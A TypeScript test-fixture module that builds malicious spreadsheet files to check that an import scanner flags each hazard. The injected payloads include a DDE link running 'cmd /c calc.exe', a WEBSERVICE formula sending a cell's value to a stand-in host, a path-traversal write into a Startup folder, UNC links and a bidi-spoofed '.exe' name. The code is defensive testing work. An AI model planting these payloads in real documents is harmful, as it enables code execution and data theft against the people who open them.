// Hostile corpus, part 2: one real export carrying each hazard class the scan names, plus the precise-message cases
// of issue 14 (no [Content_Types].xml, a 5 MB cell, a zero-width space in a code, bidi controls in the manifest).
import type * as XLSX from 'xlsx';
import { payloadSha256 } from '../../../shared/exchange/manifest';
import type { HostileCase } from './hostile-corpus';
import { readBook, rowOf, writeBook } from './sample';
import { setText, text, unzip, zip } from './zip-tools';

type Files = Map<string, Uint8Array>;

const FORM = 'xl/worksheets/sheet1.xml';
const WB_RELS = 'xl/_rels/workbook.xml.rels';
const CT = '[Content_Types].xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const enc = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const rels = (items: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;

function build(base: Uint8Array, edit: (f: Files) => void): Uint8Array {
  const f = unzip(base);
  edit(f);
  return zip([...f].map(([name, data]) => ({ name, data })));
}

/** Adds an external-link part (its body and its own relationships) to the workbook. */
function externalLink(f: Files, body: string, linkRels: string): void {
  f.set(
    'xl/externalLinks/externalLink1.xml',
    enc(`<externalLink xmlns="${MAIN}" xmlns:r="${REL}">${body}</externalLink>`),
  );
  f.set('xl/externalLinks/_rels/externalLink1.xml.rels', enc(rels(linkRels)));
  setText(
    f,
    WB_RELS,
    text(f, WB_RELS).replace(
      '</Relationships>',
      `<Relationship Id="rId90" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
    ),
  );
  setText(
    f,
    'xl/workbook.xml',
    text(f, 'xl/workbook.xml').replace(
      '</sheets>',
      '</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>',
    ),
  );
  setText(
    f,
    CT,
    text(f, CT).replace(
      '</Types>',
      '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    ),
  );
}

/** Adds relationships to the form sheet. */
function sheetRels(f: Files, items: string): void {
  f.set('xl/worksheets/_rels/sheet1.xml.rels', enc(rels(items)));
}

function withManifestPayload(base: Uint8Array, change: (payload: { info: object; entries: object[] }) => void) {
  const wb = readBook(base);
  const ws = wb.Sheets._manifest as XLSX.WorkSheet;
  const rowOfKey = (k: string) => {
    for (let r = 1; r < 400; r++) if ((ws[`A${r}`] as XLSX.CellObject | undefined)?.v === k) return r;
    throw new Error(k);
  };
  const parts = Number((ws[`B${rowOfKey('payloadParts')}`] as XLSX.CellObject).v);
  const keys = Array.from({ length: parts }, (_, i) => `B${rowOfKey(`payload.${i + 1}`)}`);
  const payload = JSON.parse(keys.map((k) => String((ws[k] as XLSX.CellObject).v)).join('')) as {
    info: object;
    entries: object[];
  };
  change(payload);
  const json = JSON.stringify(payload);
  const size = Math.ceil(json.length / parts);
  keys.forEach((k, i) => (ws[k] = { t: 's', v: json.slice(i * size, (i + 1) * size) }));
  ws[`B${rowOfKey('sha256')}`] = { t: 's', v: payloadSha256(payload as never) };
  return { wb, bytes: writeBook(wb) };
}

/** The hazard cases and the precise-message cases, over the plain export `base`. */
export function hazardCases(base: Uint8Array): HostileCase[] {
  const form = readBook(base).Sheets['Biểu mẫu 01'] as XLSX.WorkSheet;
  const r13 = rowOf(form, '1.3');
  const r12 = rowOf(form, '1.2');
  const out: HostileCase[] = [];
  const add = (name: string, bytes: Uint8Array, expect: HostileCase['expect']) => out.push({ name, bytes, expect });

  add(
    'hazard-external-link-unc.xlsx',
    build(base, (f) =>
      externalLink(
        f,
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Số liệu"/></sheetNames></externalBook>',
        `<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///\\\\máy-khác\\chia-sẻ\\số-liệu.xlsx" TargetMode="External"/>`,
      ),
    ),
    {
      ok: 'warn',
      hazards: ['external-link'],
      says: [
        'liên kết ngoài tới file:///\\\\máy-khác\\chia-sẻ',
        'DTI Desk không dùng liên kết này',
        'đừng mở tệp gốc bằng Excel khi chưa kiểm tra',
      ],
    },
  );
  add(
    'hazard-hyperlink-unc.xlsx',
    build(base, (f) => {
      sheetRels(
        f,
        `<Relationship Id="rId7" Type="${REL}/hyperlink" Target="\\\\10.0.0.9\\share\\a.exe" TargetMode="External"/>`,
      );
      setText(
        f,
        FORM,
        text(f, FORM).replace(
          '</sheetData>',
          `</sheetData><hyperlinks><hyperlink ref="I${r13}" r:id="rId7"/></hyperlinks>`,
        ),
      );
    }),
    { ok: 'warn', hazards: ['external-link'], says: ['\\\\10.0.0.9\\share\\a.exe'] },
  );
  add(
    'hazard-dde-link.xlsx',
    build(base, (f) => externalLink(f, '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems/></ddeLink>', '')),
    { hazard: 'dde', says: ['cmd|/c calc.exe', 'DTI Desk từ chối tệp này'] },
  );
  add(
    'hazard-formula-cached-in-machine-area.xlsx',
    build(base, (f) =>
      setText(
        f,
        FORM,
        text(f, FORM).replace(
          new RegExp(`<c r="L${r12}"[^>]*?(?:/>|>.*?</c>)`),
          `<c r="L${r12}"><f>WEBSERVICE("http://x.example/?"&amp;B2)*0+12</f><v>12</v></c>`,
        ),
      ),
    ),
    {
      ok: 'warn',
      hazards: ['formula'],
      differences: 0,
      says: [`ô L${r12} trang "Biểu mẫu 01"`, 'không tính công thức'],
    },
  );
  add(
    'hazard-embedded-ole.xlsx',
    build(base, (f) => {
      f.set('xl/embeddings/oleObject1.bin', new Uint8Array(2048).fill(7));
      sheetRels(f, `<Relationship Id="rId3" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`);
    }),
    { hazard: 'embedded-object', says: ['xl/embeddings/oleObject1.bin', 'đừng mở tệp gốc bằng Excel'] },
  );
  add(
    'hazard-embedded-package.xlsx',
    build(base, (f) => {
      sheetRels(f, `<Relationship Id="rId4" Type="${REL}/package" Target="../../docProps/thumb.docm"/>`);
      f.set('docProps/thumb.docm', enc('PK-not-really'));
    }),
    { hazard: 'embedded-object', says: ['package'] },
  );
  add(
    'hazard-path-traversal.xlsx',
    build(base, (f) => f.set('../../Startup/evil.bat', enc('calc.exe'))),
    { hazard: 'path-traversal', says: ['"../../Startup/evil.bat"', 'đừng giải nén tệp gốc'] },
  );
  add(
    'hazard-path-backslash.xlsx',
    build(base, (f) => f.set('xl\\..\\..\\evil.lnk', enc('x'))),
    { hazard: 'path-traversal' },
  );
  add(
    'hazard-xlm-macrosheet.xlsx',
    build(base, (f) => f.set('xl/macrosheets/sheet1.xml', enc(`<xm:macrosheet xmlns:xm="${MAIN}"/>`))),
    { hazard: 'macro', says: ['xl/macrosheets/sheet1.xml'] },
  );
  add(
    'hazard-data-connection.xlsx',
    build(base, (f) =>
      f.set(
        'xl/connections.xml',
        enc(
          `<connections xmlns="${MAIN}"><connection id="1" name="q" type="1"><dbPr connection="DSN=Excel Files;DBQ=\\\\srv\\x.xlsx"/></connection></connections>`,
        ),
      ),
    ),
    { ok: 'warn', hazards: ['data-connection'], says: ['DBQ=\\\\srv\\x.xlsx', 'Bật nội dung'] },
  );
  add(
    'hazard-bidi-in-names-and-evidence.xlsx',
    withManifestPayload(base, (p) => {
      const e = p.entries[0] as { evidence: { summary: string } };
      e.evidence.summary = 'Biên bản abc\u202Egnp.exe';
      (p.info as { contactName: string }).contactName = 'Nguyễn\u2067 Văn An';
    }).bytes,
    { ok: 'warn', hazards: ['bidi-control'], says: ['chỉ số 1.1 (Trích yếu)', 'Người liên hệ', 'đã xoá'] },
  );
  // Precise messages.
  add(
    'no-content-types.xlsx',
    build(base, (f) => f.delete(CT)),
    { error: 'not-xlsx', says: ['thiếu phần khai báo loại nội dung', 'xuất lại tệp'] },
  );
  add(
    'five-megabyte-cell.xlsx',
    build(base, (f) =>
      setText(
        f,
        FORM,
        text(f, FORM).replace(
          new RegExp(`<c r="J${r13}"[^>]*?(?:/>|>.*?</c>)`),
          `<c r="J${r13}" t="inlineStr"><is><t>${'Giải trình rất dài. '.repeat(262_144)}</t></is></c>`,
        ),
      ),
    ),
    { error: 'cell-too-long', says: [`Ô J${r13}`, 'chỉ số 1.3', 'cột "Giải trình"', '32.767', '5.242.880 ký tự'] },
  );
  add(
    'zero-width-space-in-code.xlsx',
    build(base, (f) =>
      setText(
        f,
        FORM,
        text(f, FORM).replace(
          new RegExp(`<c r="A${r13}"[^>]*?(?:/>|>.*?</c>)`),
          `<c r="A${r13}" t="inlineStr"><is><t>1.\u200b3</t></is></c>`,
        ),
      ),
    ),
    { ok: 'clean' },
  );
  return out;
}
